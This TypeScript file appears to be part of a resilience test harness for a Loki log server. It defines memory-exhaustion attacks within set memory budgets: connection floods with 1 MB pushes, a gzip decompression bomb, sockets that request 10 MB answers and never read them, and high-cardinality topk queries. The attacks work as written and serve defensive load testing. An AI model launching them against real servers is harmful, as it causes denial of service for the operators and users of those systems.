/** Attacks by queries and pushes that need much memory. */
import { gzipSync } from 'node:zlib';
import { sleep } from './attacker.ts';
import type { Attack } from './attacker.ts';
import { pushOf } from './body-attacks.ts';
import { lineBodies, longLines, pushAll, seriesOfLines } from './stored-lines.ts';

const mib = 2 ** 20;

/** Four clients repeat one query: each of 192,000 lines has label values of its own. */
function distinctSeries(name: string, memoryMb: number, path: (query: string) => string): Attack {
  return {
    name,
    about: `A9: four topk over 192,000 series, in ${memoryMb / 1024} GiB`,
    memoryMb,
    watchedAfterMs: 5_000,
    prepare: (attacker) => pushAll(attacker, lineBodies('m', 192_000)),
    run: (attacker) =>
      attacker.flood(4, 20_000, () =>
        attacker.send(path(`topk(5, count_over_time({app="m"} ${seriesOfLines} [1h]))`)),
      ),
  };
}

function instant(query: string): string {
  return `/loki/api/v1/query?query=${encodeURIComponent(query)}`;
}

function range(query: string): string {
  return `/loki/api/v1/query_range?query=${encodeURIComponent(query)}`;
}

export const memoryAttacks: readonly Attack[] = [
  {
    name: '200 connections',
    about: 'A9: 200 connections with bodies of 1 MB, in 512 MiB',
    memoryMb: 512,
    run: (attacker) => {
      const bodies = Array.from({ length: 8 }, (_, i) => pushOf(mib, { app: `attack${i}` }));
      return attacker.flood(200, 15_000, (turn) => attacker.push(bodies[turn % bodies.length]));
    },
  },
  {
    name: '200 connections, gzip',
    about: 'A9: 200 connections with 8 MB in 40 KB each, in 512 MiB',
    memoryMb: 512,
    run: (attacker) => {
      const body = gzipSync(pushOf(8 * mib));
      return attacker.flood(200, 15_000, () => attacker.push(body, { 'content-encoding': 'gzip' }));
    },
  },
  {
    name: 'unread answers',
    about: 'answers of 10 MB that 200 connections ask for and do not read, in 1 GiB',
    memoryMb: 1024,
    prepare: (attacker) => pushAll(attacker, longLines('x'.repeat(100_000), 100)),
    async run(attacker) {
      const query = `query=${encodeURIComponent('{app="long"}')}&limit=100`;
      for (let round = 0; round < 10; round++) {
        const sockets = await Promise.all(Array.from({ length: 20 }, () => attacker.open()));
        for (const socket of sockets) {
          socket
            .pause()
            .write(
              `GET /loki/api/v1/query_range?${query} HTTP/1.1\r\nHost: x\r\nX-Scope-OrgID: attacker\r\n\r\n`,
            );
        }
        await sleep(1_000);
      }
      await sleep(2_000);
    },
  },
  ...[1024, 4096].flatMap((memoryMb) => [
    distinctSeries(`distinct series, instant, ${memoryMb} MiB`, memoryMb, instant),
    distinctSeries(`distinct series, range, ${memoryMb} MiB`, memoryMb, range),
  ]),
];
